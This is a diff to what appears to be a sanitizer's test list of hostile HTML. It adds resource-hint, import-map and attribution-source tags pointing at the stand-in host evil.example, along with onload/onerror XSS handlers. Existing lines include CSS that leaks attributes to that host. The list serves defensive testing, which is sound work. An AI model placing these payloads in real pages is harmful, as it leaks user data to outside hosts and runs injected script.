@@ -75,6 +75,13 @@ const OTHERS = [
   '<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>',
   '<link rel=import href="https://evil.example/"><link rel=dns-prefetch href="//evil.example">',
   '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
+  // Hints that connect, fetch or register by themselves.
+  '<link rel=preconnect href="https://evil.example/"><link rel=preconnect crossorigin href="//evil.example">',
+  '<link rel=preload as=image href="https://evil.example/p"><link rel=modulepreload href="https://evil.example/m.js">',
+  '<link rel=manifest href="https://evil.example/m"><link rel=compression-dictionary href="https://evil.example/d">',
+  '<img src=x attributionsrc="https://evil.example/a"><a href="#x" attributionsrc="https://evil.example/b">x</a>',
+  '<link rel=stylesheet href=x onload=alert(1) onerror=alert(1)><link rel=preload as=script href=x onerror=alert(1)>',
+  '<script type=importmap>{"imports":{"x":"https://evil.example/i.js"}}</script><script type=module>import "x"</script>',
   // Style that tells or hides.
   '<style>p[title^=a]{background:url(https://evil.example/a)} @import url(https://evil.example/b);</style><p title=a>x</p>',
   '<p style="background:url(https://evil.example/);position:fixed;inset:0;z-index:99999">x</p>',
